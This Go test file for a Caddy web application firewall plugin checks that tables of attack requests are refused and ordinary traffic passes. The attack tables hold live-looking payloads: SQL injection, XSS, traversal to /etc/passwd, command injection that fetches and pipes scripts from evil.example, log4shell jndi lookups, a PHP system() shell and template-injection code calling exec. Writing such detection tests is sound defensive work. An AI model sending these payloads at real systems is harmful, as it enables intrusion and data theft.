package waf

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/caddyserver/caddy/v2"
)

// multipartBody is a multipart/form-data body of the given fields.
func multipartBody(fields ...string) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = mw.WriteField(fields[i], fields[i+1])
	}
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// wrap76 breaks s into lines of 76 characters, as MIME does.
func wrap76(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\\r\\n")
		s = s[76:]
	}
	return b.String() + s
}

func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// attackTable is what the WAF must refuse: the CRS's families (SQL
// injection, XSS, traversal, command injection, log4shell, protocol
// attacks) in every place a request carries them (query, form, multipart,
// JSON, headers, cookies), and what the CRS alone lets through at
// paranoia 1 (crsMisses: encoded payloads, NoSQL operators, template and
// LDAP injection).
func attackTable() (crsCatches, crsMisses []probe) {
	q := url.QueryEscape
	mpSQL, mpSQLType := multipartBody("comment", "1' UNION SELECT username, password FROM users --")
	mpXSS, mpXSSType := multipartBody("bio", "<script>alert(document.domain)</script>")
	mpB64, mpB64Type := multipartBody("note", b64("<script>alert(document.domain)</script>"))
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	crsCatches = []probe{
		{name: "SQLi, query", method: "GET", path: "/items?id=" + q("1' OR '1'='1' --")},
		{name: "SQLi, form", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin'--") + "&pass=" + q("x' OR 1=1 --")},
		{name: "SQLi, JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "x' UNION SELECT password FROM users --"}`},
		{name: "SQLi, multipart", method: "POST", path: "/upload", contentType: mpSQLType, body: mpSQL},
		{name: "SQLi, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=1' OR '1'='1' --"}}},
		{name: "SQLi, Referer", method: "GET", path: "/", header: http.Header{"Referer": {"https://example.com/?id=1' UNION SELECT password FROM users --"}}},
		{name: "SQLi, time based", method: "GET", path: "/items?id=" + q("1 AND SLEEP(5)")},
		{name: "XSS, query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
		{name: "XSS, JSON", method: "POST", path: "/api", contentType: js, body: `{"text": "<img src=x onerror=alert(1)>"}`},
		{name: "XSS, multipart", method: "POST", path: "/upload", contentType: mpXSSType, body: mpXSS},
		{name: "XSS, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"pref=<svg onload=alert(1)>"}}},
		{name: "XSS, javascript: URL in a form", method: "POST", path: "/profile", contentType: form, body: "site=" + q("javascript:alert(document.cookie)")},
		{name: "traversal, query", method: "GET", path: "/download?file=" + q("../../../../etc/passwd")},
		{name: "traversal, encoded in the path", method: "GET", path: "/static/..%2f..%2f..%2fetc%2fpasswd"},
		{name: "traversal, JSON", method: "POST", path: "/api", contentType: js, body: `{"file": "../../../../etc/shadow"}`},
		{name: "RCE, query", method: "GET", path: "/ping?host=" + q("127.0.0.1; cat /etc/passwd")},
		{name: "RCE, form", method: "POST", path: "/ping", contentType: form, body: "host=" + q("x|wget http://evil.example/x.sh")},
		{name: "RCE, JSON", method: "POST", path: "/api", contentType: js, body: `{"cmd": "$(curl http://evil.example/x|sh)"}`},
		{name: "jndi, header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
		{name: "jndi, User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"${jndi:rmi://evil.example/a}"}}},
		{name: "jndi, JSON", method: "POST", path: "/api", contentType: js, body: `{"user": "${jndi:ldap://evil.example/a}"}`},
		{name: "PHP code, form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<?php system($_GET['c']); ?>")},
		{name: "protocol: CRLF in a parameter (response splitting)", method: "GET", path: "/r?next=" + q("x\r\nSet-Cookie: session=evil")},
		{name: "protocol: a method not allowed", method: "TRACE", path: "/"},
		{name: "protocol: a content type not allowed", method: "POST", path: "/api", contentType: "application/x-evil", body: "x"},
		// the CRS 4.25 catches these at paranoia 1 (942290 NoSQL
		// operators in names, 921200 LDAP, 932130/933135/944xxx template
		// and expression language code, 942270 triple encoding)
		{name: "base64 in a data: URL", method: "POST", path: "/api", contentType: js, body: `{"doc": "data:text/plain;base64,` + b64("<script>alert(1)</script>") + `"}`},
		{name: "percent-encoded three times in the query", method: "GET", path: "/items?id=" + q(q(q("1' UNION SELECT password FROM users --")))},
		{name: "NoSQL $ne in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$ne": null}}`},
		{name: "NoSQL $gt in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$gt": ""}}`},
		{name: "NoSQL $where in JSON", method: "POST", path: "/find", contentType: js, body: `{"$where": "this.password.match(/^a/)"}`},
		{name: "NoSQL $regex in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": {"$regex": "^adm"}, "password": {"$exists": true}}`},
		{name: "NoSQL $ne in a form", method: "POST", path: "/login", contentType: form, body: "user=admin&password[$ne]=x"},
		{name: "NoSQL $gt in the query", method: "GET", path: "/users?age[$gt]=0"},
		{name: "NoSQL operator in JSON inside a parameter", method: "GET", path: "/find?filter=" + q(`{"password": {"$ne": null}}`)},
		{name: "NoSQL $or in a JSON array", method: "POST", path: "/find", contentType: js, body: `{"$or": [{"a": 1}, {"b": 2}]}`},
		{name: "SSTI ${7*7} in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "${7*7}"}`},
		{name: "SSTI Jinja config", method: "GET", path: "/hello?name=" + q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")},
		{name: "SSTI Freemarker", method: "POST", path: "/c", contentType: form, body: "c=" + q(`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`)},
		{name: "SSTI Spring EL", method: "GET", path: "/hello?name=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")},
		{name: "SSTI Velocity", method: "POST", path: "/c", contentType: form, body: "c=" + q(`#set($x = $class.inspect("java.lang.Runtime"))`)},
		{name: "LDAP *)(uid=*))(|(uid=*", method: "GET", path: "/users?name=" + q("*)(uid=*))(|(uid=*")},
		{name: "LDAP admin)(&)", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin)(&)") + "&pass=x"},
		{name: "LDAP *)(|(objectclass=*)", method: "POST", path: "/login", contentType: js, body: `{"user": "*)(|(objectclass=*)", "pass": "x"}`},
		{name: "NoSQL $expr in JSON", method: "POST", path: "/find", contentType: js, body: `{"$expr": {"$function": {"body": "function() { sleep(5000); return true }", "args": [], "lang": "js"}}}`},
		{name: "NoSQL $accumulator", method: "POST", path: "/find", contentType: js, body: `{"group": {"$accumulator": {"init": "function() { return 1 }"}}}`},
		{name: "NoSQL $where in a string of JSON", method: "POST", path: "/find", contentType: js, body: `{"q": "{\"$where\": \"sleep(5000)\"}"}`},
		{name: "JSON sent as text/plain, template in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"name": "{{7*7}}"}`},
		{name: "NoSQL stage $addFields in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$addFields": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $project in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$project": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $group in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$group": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL $set update in a form", method: "POST", path: "/profile", contentType: form, body: "user[$set][role]=admin"},
		{name: "SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "x' UNION SELECT password FROM users --"}`},
		{name: "XSS in a JSON Patch", method: "PATCH", path: "/api/users/7", contentType: "application/json-patch+json", body: `[{"op": "replace", "path": "/bio", "value": "<script>alert(document.cookie)</script>"}]`},
		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
	}
	crsMisses = []probe{
		// encoded
		{name: "base64 SQLi in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		{name: "base64 XSS in a query parameter", method: "GET", path: "/search?q=" + q(b64("<script>alert(document.cookie)</script>"))},
		{name: "base64url RCE in a form field", method: "POST", path: "/ping", contentType: form, body: "host=" + b64url("127.0.0.1; cat /etc/passwd")},
		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
		{name: "base64 SQLi in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="` + b64("1' UNION SELECT username, password FROM users--") + `"`}}},
		{name: "base64 with line breaks (MIME) in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + wrap76(b64("1' UNION SELECT username, password FROM users-- and a longer tail to wrap the line")) + `"}`},
		{name: "base64 without padding and with a space", method: "GET", path: "/search?q=" + q(strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[:20]+" "+strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[20:])},
		{name: "base64 with extra padding", method: "POST", path: "/ping", contentType: form, body: "host=" + q(b64("127.0.0.1; cat /etc/passwd")+"==")},
		{name: "base64 of a payload and one invalid UTF-8 byte", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}\xff") + `"}`},
		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
		{name: "jndi lookup in base64", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}`},
		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
		{name: "base64 SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		// NoSQL
		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $unionWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unionWith": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $graphLookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$graphLookup": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $out in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$out": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $merge in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$merge": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $match in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$match": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $facet in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$facet": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $replaceRoot in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceRoot": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $replaceWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceWith": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $sample in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$sample": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $unwind in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unwind": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL $$ROOT in JSON", method: "POST", path: "/find", contentType: js, body: `{"newRoot": "$$ROOT"}`},
		{name: "NoSQL $lookup as a bracketed query name", method: "GET", path: "/find?a[$lookup]=x"},
		{name: "NoSQL $unionWith in JSON inside a parameter", method: "GET", path: "/find?pipeline=" + q(`[{"$unionWith": "secrets"}]`)},
		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
		// pattern does not start on
		{name: "LDAP: a whole or-filter", method: "GET", path: "/users?name=" + q("(|(uid=*)(userPassword=*))")},
		{name: "LDAP: after a colon", method: "POST", path: "/login", contentType: form, body: "user=" + q("x:admin)(|(objectclass=*)") + "&pass=x"},
		// template injection
		{name: "SSTI {{7*7}} in the query", method: "GET", path: "/hello?name=" + q("{{7*7}}")},
		{name: "SSTI <%= 7*7 %> in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<%= 7*7 %>")},
		{name: "SSTI #{7*7} in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"name=#{7*7}"}}},
		{name: "SSTI Jinja __mro__", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}`},
		{name: "SSTI Twig _self", method: "GET", path: "/hello?name=" + q(`{{_self.env.registerUndefinedFilterCallback("exec")}}`)},
		{name: "SSTI {{7*'7'}} in a User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"Mozilla/5.0 {{7*'7'}}"}}},
		{name: "SSTI Jinja \\x5f escapes", method: "GET", path: "/hello?name=" + q(`{{request['application']['\x5f\x5fglobals\x5f\x5f']['\x5f\x5fbuiltins\x5f\x5f']['\x5f\x5fimport\x5f\x5f']('os')['popen']('id')['read']()}}`)},
		{name: "SSTI {%print(7*7)%}", method: "GET", path: "/hello?name=" + q("{%print(7*7)%}")},
		{name: "SSTI {% print 7*7 %}", method: "POST", path: "/c", contentType: form, body: "c=" + q("{% print 7*7 %}")},
		{name: "SSTI {{7+7}} in the query", method: "GET", path: "/hello?name=" + q("{{7+7}}")},
		{name: "SSTI {{ 7.0 * 7 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ 7.0 * 7 }}"}`},
		{name: "SSTI {{ 7//1 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ 7//1 }}"}`},
		{name: "SSTI {{ range(7)|list }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ range(7)|list }}"}`},
		{name: "SSTI Razor @(7*7)", method: "GET", path: "/hello?name=" + q("@(7*7)")},
		{name: "SSTI {$smarty.version}", method: "POST", path: "/c", contentType: form, body: "c=" + q("{$smarty.version}")},
		{name: "SSTI doT {{=7*7}}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{=7*7}}"}`},
		// LDAP injection
	}
	return crsCatches, crsMisses
}

// benignTable is ordinary traffic that must pass: the false-positive
// budget is none of it refused, with the additions as without them.
func benignTable() []probe {
	q := url.QueryEscape
	mp, mpType := multipartBody("title", "Trip to Zürich", "body", "We met O'Brien at the café; prices from $5 to $20.")
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	return []probe{
		{name: "a JSON API call", method: "POST", path: "/registry/services/hello_service", contentType: js,
			body: `{"address": "127.0.0.1:9090", "ttl": "30s", "metadata": {"version": "2", "zone": "eu-1"}, "health": {"path": "/healthz"}}`},
		{name: "search with quotes and apostrophes", method: "GET", path: "/search?q=" + q(`O'Brien "quoted words" rock'n'roll`)},
		{name: "search with an apostrophe, form", method: "POST", path: "/search", contentType: form, body: "q=" + q("McDonald's near St. Mary's")},
		{name: "non-ASCII search", method: "GET", path: "/search?q=" + q("Zürich 東京 Москва 🎉")},
		{name: "non-ASCII JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"title": "Grüße aus Köln", "body": "日本語のテキスト, émoji 🎉, naïve café"}`},
		{name: "prices", method: "POST", path: "/api/items", contentType: js, body: `{"name": "Lamp", "price": "$5.99", "note": "was $10, now $5 - save 50%"}`},
		{name: "an email and a URL with a query", method: "POST", path: "/api/contacts", contentType: js,
			body: `{"email": "jane.o'neil@example.com", "site": "https://example.com/page?ref=home&lang=de"}`},
		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
		{name: "JSON Schema ($schema, $ref, $id, $defs)", method: "POST", path: "/api/schemas", contentType: js,
			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/person", "type": "object", "properties": {"address": {"$ref": "#/$defs/address"}}, "$defs": {"address": {"type": "object"}}}`},
		{name: "JSON Schema 2020-12 keywords ($anchor, $dynamicRef, $dynamicAnchor, $vocabulary, $comment)", method: "POST", path: "/api/schemas", contentType: js,
			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$vocabulary": {"https://json-schema.org/draft/2020-12/vocab/core": true}, "$defs": {"node": {"$anchor": "node", "$dynamicAnchor": "meta", "$comment": "a tree", "items": {"$dynamicRef": "#meta"}}}, "$ref": "#node"}`},
		{name: "prices and totals named like operators in text", method: "POST", path: "/api", contentType: js, body: `{"note": "match the $out and group totals; costs $5", "sort": "-created_at", "limit": 10}`},
		{name: "Handlebars: {{#each}}, {{> partial}}, {{this}}", method: "POST", path: "/api/templates", contentType: js,
			body: `{"body": "{{#each items}}<li>{{this.name}}</li>{{/each}} {{> footer}} {{!-- a comment --}} {{else}}"}`},
		{name: "numbers and text in braces", method: "GET", path: "/search?q=" + q("{2024 10} sizes 7 7 and @home (7 x 7 cm)")},
		{name: "a JSON Merge Patch (RFC 7396)", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json",
			body: `{"title": "Hello!", "phoneNumber": "+01-123-456-7890", "author": {"familyName": null}, "tags": ["example"]}`},
		{name: "a JSON Patch (RFC 6902)", method: "PATCH", path: "/apis/apps/v1/namespaces/default/deployments/web", contentType: "application/json-patch+json",
			body: `[{"op": "replace", "path": "/spec/replicas", "value": 3}, {"op": "add", "path": "/metadata/labels/tier", "value": "frontend"}]`},
		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
		// not here: "Set ${HOME}/bin in your PATH", which the CRS alone
		// refuses (932130, 932160, 933135; a false positive of its own)
		{name: "a code snippet in a comment", method: "POST", path: "/api/comments", contentType: js,
			body: `{"comment": "In Go: for i := range 10 { fmt.Println(i * 2) } // prints even numbers"}`},
		{name: "text with parentheses", method: "GET", path: "/search?q=" + q("Smith (born 1970) (née Jones)")},
		{name: "a bearer token", method: "GET", path: "/hello_service/greet",
			header: http.Header{"Authorization": {"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl"}}},
		{name: "base64 text that is benign", method: "POST", path: "/api/files", contentType: js,
			body: `{"name": "readme.txt", "content": "` + b64("Hello, world! This is a plain text file.\nLine two.") + `"}`},
		{name: "base64 binary (a PNG header)", method: "POST", path: "/api/files", contentType: js,
			body: `{"name": "x.png", "content": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`},
		{name: "words and spaces only (base64's alphabet once the spaces are gone)", method: "POST", path: "/api/notes", contentType: js,
			body: `{"text": "Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore"}`},
		{name: "JSON sent as text/plain", method: "POST", path: "/api/notes", contentType: "text/plain; charset=utf-8",
			body: `{"title": "Grüße", "content": "` + b64("Hello, world! This is a plain text file.") + `", "tags": [], "n": 2}`},
		{name: "plain text that starts with a brace", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{not json} just a note"},
		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
		{name: "cookies of a real site", method: "GET", path: "/", header: http.Header{"Cookie": {"lang=de-CH; theme=dark; cart=" + b64(`{"items":[1,2]}`)}}},
		{name: "a percent-encoded cookie (Google's FCCDCF, from the CRS's tests)", method: "GET", path: "/", header: http.Header{"Cookie": {"FCCDCF=%5Bnull%2Cnull%2Cnull%2Cnull%2Cnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2-fd1c-416b-a0c7-be2127c321b1%5C%22%2C%5B1764611074%2C138000000%5D%5D%22%5D%5D%5D"}}},
		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
	}
}

// TestDetectionBeyondTheCRS runs the attack and benign tables through a
// real Caddy with waf (paranoia 1) and with waf { crs_only } (the CRS
// alone, as before): every attack is refused with the additions, those
// in crsMisses pass the CRS alone (so each one is the additions' work),
// and no benign request is refused by either.
func TestDetectionBeyondTheCRS(t *testing.T) {
	crsCatches, crsMisses := attackTable()
	benign := benignTable()
	type tally struct{ blocked, falsePositives int }
	run := func(block string) (tally, map[string]bool) {
		base, _ := startCaddy(t, block)
		refused := map[string]bool{}
		var n tally
		for _, p := range append(append([]probe{}, crsCatches...), crsMisses...) {
			code, _ := send(t, base, p)
			if testing.Verbose() {
				t.Logf("%s: %s: %d", block, p.name, code)
			}
			if code == http.StatusForbidden || code == http.StatusBadRequest || code == http.StatusMethodNotAllowed {
				refused[p.name] = true
				n.blocked++
			}
		}
		for _, p := range benign {
			if code, body := send(t, base, p); code != http.StatusOK {
				t.Errorf("%s: %s: %d %s, want 200 (a false positive)", block, p.name, code, body)
				n.falsePositives++
			}
		}
		return n, refused
	}
	before, refusedBefore := run("waf {\n\t\tcrs_only\n\t}")
	_ = caddy.Stop()
	after, refusedAfter := run("waf")
	total := len(crsCatches) + len(crsMisses)
	t.Logf("attacks refused: CRS alone %d of %d, with the additions %d of %d; benign refused: %d and %d of %d",
		before.blocked, total, after.blocked, total, before.falsePositives, after.falsePositives, len(benign))
	for _, p := range crsCatches {
		if !refusedBefore[p.name] || !refusedAfter[p.name] {
			t.Errorf("%s: refused by the CRS alone %v, with the additions %v; want both", p.name, refusedBefore[p.name], refusedAfter[p.name])
		}
	}
	for _, p := range crsMisses {
		if refusedBefore[p.name] {
			t.Errorf("%s: the CRS alone refuses it (move it to crsCatches)", p.name)
		}
		if !refusedAfter[p.name] {
			t.Errorf("%s: passed, want refused", p.name)
		}
	}
}

func TestPlainBase64(t *testing.T) {
	for v, want := range map[string]string{
		b64("<script>alert(1)</script>"):               "<script>alert(1)</script>",
		b64url("1' OR 1=1 -- ??>>"):                    "1' OR 1=1 -- ??>>",
		"data:text/plain;base64," + b64("hello there"): "hello there",
		b64("Zürich 東京"):                               "Zürich 東京",
		"dGVzdA==":                                     "",             // too short
		"Donaudampfschifffahrt":                        "",             // decodes to binary
		"9f86d081884c7d659a2feaa0c55ad015":             "",             // hex: binary
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "",             // PNG
		"aGVsbG8gd29ybGQh+-_/":                         "",             // mixed alphabets
		"aGVsbG8gd29ybGQh===":                          "hello world!", // extra padding
		"aGVsbG8gd29ybGQ":                              "hello world",  // missing padding
		"aGVsbG8gd29y\r\nbGQh":                         "hello world!", // a MIME line break
		"aGVsbG8g d29ybGQh":                            "hello world!", // a space
		"aGVsbG8gd29ybGQhI":                            "hello world!", // a lone last character
		b64("1' OR 1=1 --\xff"):                        "1' OR 1=1 --", // a byte that is not UTF-8
		b64("\xff\xfe\xfd<script>"):                    "",             // 3 of 11 not text
		"internationalization":                         "",
		"Authorization":                                "",
		"aGVsbG8gd29ybGQ=x":                            "", // pad inside
		"hello world, plainly":                         "", // not base64
		"":                                             "",
	} {
		got, ok := plainBase64(v)
		if ok != (want != "") || got != want {
			t.Errorf("plainBase64(%q) = %q, %v; want %q", v, got, ok, want)
		}
	}
}

func TestDecoderBoundsAndLevels(t *testing.T) {
	d := decoder{budget: 1000}
	if err := d.value("q", b64(b64(b64("<script>alert(1)</script>")))); err != nil {
		t.Fatal(err)
	}
	if len(d.out) != 3 || d.out[2].name != "q:base64:base64:base64" || d.out[2].value != "<script>alert(1)</script>" {
		t.Fatalf("levels: %+v", d.out)
	}
	// past maxDecodeLevels, still encoded: refused, never passed
	d = decoder{budget: 1000}
	if err := d.value("q", b64(b64(b64(b64(b64("<script>alert(1)</script>")))))); !errors.Is(err, errDecodeDepth) {
		t.Fatalf("five levels: %v, want errDecodeDepth", err)
	}
	d = decoder{budget: 1000}
	// encoded twice more than the engine decodes: decoded once here, the
	// CRS's t:urlDecodeUni takes the last level
	if err := d.value("id", "1%2527%2520OR%25201%253D1"); err != nil || len(d.out) != 1 || d.out[0].value != "1%27%20OR%201%3D1" {
		t.Fatalf("percent: %v %+v", err, d.out)
	}
	// encoded once more: the CRS's own (a percent-encoded cookie)
	d = decoder{budget: 1000}
	if err := d.value("cookie.FCCDCF", "%5Bnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2%5C%22%5D%22%5D%5D%5D"); err != nil || len(d.out) != 0 {
		t.Fatalf("once: %v %+v", err, d.out)
	}
	d = decoder{budget: 100}
	big := b64(strings.Repeat("text ", 40)) // 200 bytes decoded
	if err := d.value("q", big); err != errDecodeBudget {
		t.Fatalf("over the budget: %v", err)
	}
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{b64("<script>"), "data:x;base64," + b64("hello there!"), "%2527", "%u0027%zz%", "aGVsbG8gd29ybGQh"} {
		f.Add(s)
	}
	f.Add(`{"a": "` + b64(`{"b": "`+b64("<script>")+`"}`) + `"}`)
	f.Add(b64("a=1&q=" + b64("<script>")))
	f.Fuzz(func(t *testing.T, v string) {
		budget := 4*len(v) + 64
		d := decoder{budget: budget, maxArgs: 128}
		err := d.value("f", v)
		if err != nil && !errors.Is(err, errDecodeBudget) && !errors.Is(err, errDecodeDepth) && !errors.Is(err, errArgsFull) {
			t.Fatalf("%q: %v", v, err)
		}
		total := 0
		for _, a := range d.out {
			total += len(a.name) + len(a.value)
		}
		// names and values are within the budget, arguments within
		// max_arguments (one more: the engine refuses it)
		if total > budget || len(d.out) > 129 {
			t.Fatalf("%q: %d arguments, %d bytes", v, len(d.out), total)
		}
	})
}

func FuzzBodyChecks(f *testing.F) {
	mp, mpType := multipartBody("a", "b")
	f.Add("application/json", `{"a":{"$ne":[]},"b":"x"}`)
	f.Add("application/x-www-form-urlencoded", "a=%zz&b=c+d&&=")
	f.Add(mpType, mp)
	f.Add("text/xml", `<a b="c"><!DOCTYPE x></a>`)
	f.Fuzz(func(t *testing.T, ct, body string) {
		extra, values, _ := bodyChecks(ct, []byte(body), 128)
		if len(extra) > len(body)+1 || len(values) > len(body)+1 {
			t.Fatalf("%d extra and %d values from %d bytes", len(extra), len(values), len(body))
		}
	})
}

// TestDecodedValuesCountAgainstTheLimits: decoded texts are body
// arguments, so a request of many encoded values reaches max_arguments
// (400) rather than doubling what the engine inspects; an attack behind
// many harmless encoded values is refused, never passed.
func TestDecodedValuesCountAgainstTheLimits(t *testing.T) {
	base, hits := startCaddy(t, "waf")
	body := func(n int, last string) string {
		var b strings.Builder
		b.WriteString("{")
		for i := range n {
			fmt.Fprintf(&b, `"f%d": %q, `, i, b64(fmt.Sprintf("harmless text number %d", i)))
		}
		fmt.Fprintf(&b, `"last": %q}`, last)
		return b.String()
	}
	js := "application/json"
	if code, resp := send(t, base, probe{name: "60 encoded fields", method: "POST", path: "/api", contentType: js, body: body(60, "x")}); code != http.StatusOK {
		t.Fatalf("60 encoded fields and one more (121 arguments): %d %s, want 200", code, resp)
	}
	before := *hits
	for _, n := range []int{63, 100, 127} {
		code, _ := send(t, base, probe{name: "many", method: "POST", path: "/api", contentType: js, body: body(n, b64("1' UNION SELECT password FROM users --"))})
		if code != http.StatusBadRequest && code != http.StatusForbidden {
			t.Errorf("%d encoded fields then an encoded attack: %d, want it refused", n, code)
		}
	}
	if *hits != before {
		t.Errorf("the backend got %d of the refused requests", *hits-before)
	}
}

// TestTrailersAreRefused: a chunked request's trailers are read after the
// body and never inspected, so a request carrying any is refused (400)
// and the upstream gets none of it; the same request without trailers
// passes.
func TestTrailersAreRefused(t *testing.T) {
	base, hits := startCaddy(t, "waf")
	do := func(trailer http.Header) int {
		req, err := http.NewRequest("POST", base+"/api", io.MultiReader(strings.NewReader(`{"a": "b"}`)))
		if err != nil {
			t.Fatal(err)
		}
		req.ContentLength = -1 // chunked
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", "Mozilla/5.0 gateway-test")
		req.Trailer = trailer
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		return resp.StatusCode
	}
	if code := do(nil); code != http.StatusOK {
